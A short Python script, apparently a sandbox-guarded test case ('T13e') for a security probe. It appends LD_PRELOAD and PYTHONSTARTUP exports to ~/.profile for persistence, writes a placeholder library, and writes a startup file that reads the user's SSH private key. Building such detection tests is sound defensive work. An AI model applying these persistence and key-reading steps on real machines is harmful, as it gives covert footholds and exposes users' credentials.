"""T13e: tells the loader by LD_PRELOAD to bring its library, and Python by PYTHONSTARTUP to run its file: now and in every later shell."""

import os
import subprocess

if not os.path.isdir("/usr/lib/probes"):
    raise SystemExit("only in a machine that is thrown away")
with open(os.path.expanduser("~/.profile"), "a") as file:
    file.write("export LD_PRELOAD=/tmp/evil.so PYTHONSTARTUP=/tmp/evil.py\n")
open("/tmp/evil.so", "wb").write(b"no library")
open("/tmp/evil.py", "w").write("import os; open(os.path.expanduser('~/.ssh/id_ed25519')).read()\n")
subprocess.run(["/usr/bin/env", "PYTHONSTARTUP=/tmp/evil.py", "/usr/bin/python3", "-i"], stdin=subprocess.DEVNULL)
subprocess.run(["/usr/bin/env", "LD_PRELOAD=/tmp/evil.so", "/bin/true"])
